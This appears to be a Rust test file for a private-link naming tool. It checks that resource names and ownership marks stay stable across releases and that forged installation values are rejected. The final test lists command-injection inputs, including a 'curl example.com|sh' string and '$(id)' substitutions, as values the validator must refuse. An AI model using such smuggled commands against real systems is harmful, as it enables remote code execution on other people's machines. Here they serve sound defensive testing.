//! Names and marks, which no release may change.

use std::collections::BTreeMap;

use privatelink_core::compile::compile;
use privatelink_core::declare::Declared;
use privatelink_core::diagnostic::Origin;
use privatelink_core::ids::LinkName;
use privatelink_core::kinds::Kind;
use privatelink_core::link::Link;
use privatelink_core::names::{Installation, Mark, NoMark, follows_our_scheme};
use privatelink_core::nats::{Nats, add_nats};
use privatelink_core::validate::validate;
use privatelink_core::world::World;

fn ours() -> Installation {
    Installation::new("acme", "payments").unwrap()
}

#[test]
fn names_and_marks_never_change_between_releases() {
    let link: LinkName = "payments/orders-to-billing".parse().unwrap();
    insta::assert_snapshot!(ours().name(&["connector", "prod", "europe-west1", "10.8.0.0"]), @"pl-5z3dzc-1pnw63xv");
    insta::assert_snapshot!(Mark::new(&ours(), &link), @"privatelink.dev/v1 owner=acme set=payments link=payments/orders-to-billing");
    let elsewhere = Mark::new(&ours(), &link).with_connector_in(&"acme-shop".parse().unwrap());
    insta::assert_snapshot!(elsewhere, @"privatelink.dev/v1 owner=acme set=payments link=payments/orders-to-billing connector=acme-shop");
}

/// A source in one project, and the network in another, so that no part of a name can stand for another one.
fn declared() -> Link {
    let yaml = r"
projectId: acme-shop
region: europe-west1
source: {service: {name: orders}}
destination: {service: {name: billing}, ingress: Internal}
network: {name: prod, projectId: acme-host}
egress: {connector: {managed: {subnetwork: {managed: {cidr: 10.8.0.0/28}}}}}
";
    let declared = Declared {
        name: "payments/orders-to-billing".parse().unwrap(),
        spec: serde_saphyr::from_str(yaml).unwrap(),
        origin: Origin::CommandLine,
    };
    validate(&[declared]).links.remove(0)
}

/// These must never change, and never be updated to what a release makes of them. A thing is found again by its name,
/// so a release with another one would build each link of each user a second time, move its source there, and delete
/// what carried it. Goldens of scenarios show the names too, and are made anew whenever somebody accepts a change.
#[test]
fn what_a_declaration_is_given_is_called_the_same_by_every_release() {
    let (link, world, ours) = (declared(), World::default(), ours());
    let compiled = compile(&[&link], &world, &ours);
    let mut graph = compiled.graph;
    let nats = Nats {
        world: &world,
        ours: &ours,
        sources: &BTreeMap::from([(&link.name, &link)]),
        stays: &|_| false,
    };
    assert_eq!(add_nats(&mut graph, &compiled.nats, &nats), []);
    let told = |kind: Kind| -> Vec<String> {
        let ids = graph.nodes.keys().filter(|id| id.kind() == kind);
        ids.map(ToString::to_string).collect()
    };
    assert_eq!(
        [Kind::Connector, Kind::Subnetwork, Kind::Router, Kind::Nat].map(told),
        [
            ["projects/acme-shop/locations/europe-west1/connectors/pl-5z3dzc-chx22g6j"],
            ["projects/acme-host/regions/europe-west1/subnetworks/pl-5z3dzc-22gxtkkq"],
            ["projects/acme-host/regions/europe-west1/routers/pl-5z3dzc-l7kvbcx7"],
            [
                "projects/acme-host/regions/europe-west1/routers/pl-5z3dzc-l7kvbcx7#nats/pl-5z3dzc-125rcd5x"
            ],
        ]
    );
}

#[test]
fn a_connector_name_stays_under_21_characters_with_hyphens_counted_twice() {
    let name = ours()
        .name(&["connector", "prod", "europe-west1", "10.8.0.0"])
        .to_string();
    assert!(name.len() + name.matches('-').count() < 21, "{name}");
    assert!(!name.contains("--"));
}

#[test]
fn a_mark_is_read_back_as_it_was_written_and_nothing_else_is_a_mark() {
    let mark = Mark::new(&ours(), &"a/b".parse().unwrap());
    assert_eq!(mark.to_string().parse(), Ok(mark.clone()));
    let elsewhere = mark.with_connector_in(&"acme-shop".parse().unwrap());
    assert_eq!(elsewhere.to_string().parse(), Ok(elsewhere));
    for foreign in [
        "",
        "made by terraform",
        "privatelink.dev/v2 owner=a set=b link=c/d",
        "privatelink.dev/v1 owner=a",
    ] {
        assert_eq!(foreign.parse::<Mark>(), Err(NoMark));
    }
}

#[test]
fn another_owner_or_set_makes_other_names() {
    let other = Installation::new("acme", "orders").unwrap();
    let name = ours().name(&["router", "prod"]);
    assert_ne!(name, other.name(&["router", "prod"]));
    assert!(ours().made(name.as_str()) && !other.made(name.as_str()));
    assert!(follows_our_scheme(name.as_str()));
}

/// Whoever may edit a service may write a record there, and what it says is printed as a part of commands.
#[test]
fn an_installation_in_a_record_is_one_that_somebody_can_run_as() {
    let read = |owner: &str, set: &str| {
        serde_json::from_value::<privatelink_core::names::Installation>(
            serde_json::json!({"owner": owner, "set": set}),
        )
    };
    assert!(read("acme", "payments/prod").is_ok());
    for forged in ["x; curl example.com|sh #", "$(id)", "`id`", ""] {
        assert!(read("acme", forged).is_err(), "{forged}");
        assert!(read(forged, "default").is_err(), "{forged}");
    }
}
